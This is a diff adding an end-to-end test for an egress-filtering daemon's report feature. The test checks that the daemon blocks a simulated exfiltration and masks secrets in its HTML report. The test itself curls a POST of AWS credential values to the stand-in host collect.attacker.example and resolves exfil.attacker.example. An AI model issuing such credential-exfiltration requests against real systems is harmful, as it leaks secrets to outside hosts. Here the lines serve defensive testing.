@@ -257,3 +257,35 @@ def test_report_in_chromium(tmp_path, empty_ns):
     keep = os.environ.get("EGRESSD_REPORT_SHOT")
     if keep:
         shutil.copy(shot, keep)
+
+
+def test_report_of_a_real_log(gwlab, tmp_path, empty_ns):
+    """End to end: the daemon's own log (an allowed fetch, a credential POST to
+    an attacker, a refused DNS name) turned into a page that shows them."""
+    from exfil import common as X
+    e = gwlab.write_conf(unknown_ip="verify")
+    e.start()
+    assert gwlab.curl("http://updates.example.com/file").returncode == 0
+    host = "collect.attacker.example"
+    data = "aws_access_key_id=%s&aws_secret_access_key=%s" % (X.AWS_KEY_ID, X.AWS_SECRET)
+    gwlab.curl("http://%s/upload" % host, "--resolve", "%s:80:%s" % (host, L.ATTACKER4),
+               "--data-binary", data, timeout=5)
+    gwlab.dig("exfil.attacker.example", "A")
+    e.wait_event(lambda ev: ev.get("event") == "deny" and ev.get("name") == host,
+                 what="deny of the POST")
+    e.wait_event(lambda ev: ev.get("event") == "dns_deny"
+                 and ev.get("qname", "").rstrip(".") == "exfil.attacker.example",
+                 what="dns_deny")
+    page = tmp_path / "real.html"
+    p = egressd("report", e.log, "-o", str(page))
+    assert p.returncode == 0, p.stderr
+    assert "malformed" not in p.stderr, p.stderr
+    html = page.read_text()
+    assert "%s:80" % host in html
+    assert "exfil.attacker.example" in html
+    assert X.mask(X.AWS_KEY_ID) in html and "aws_access_key" in html
+    assert X.AWS_KEY_ID not in html and X.AWS_SECRET not in html
+    assert re.search(r'id="n-allow">allowed flows<b>[1-9]', html)
+    if shutil.which("chromium"):
+        d = chromium(empty_ns, tmp_path, "file://%s" % page, ["--dump-dom"])
+        assert 'id="timeline-plot"' in d.stdout and "%s:80" % host in d.stdout, d.stderr[-2000:]
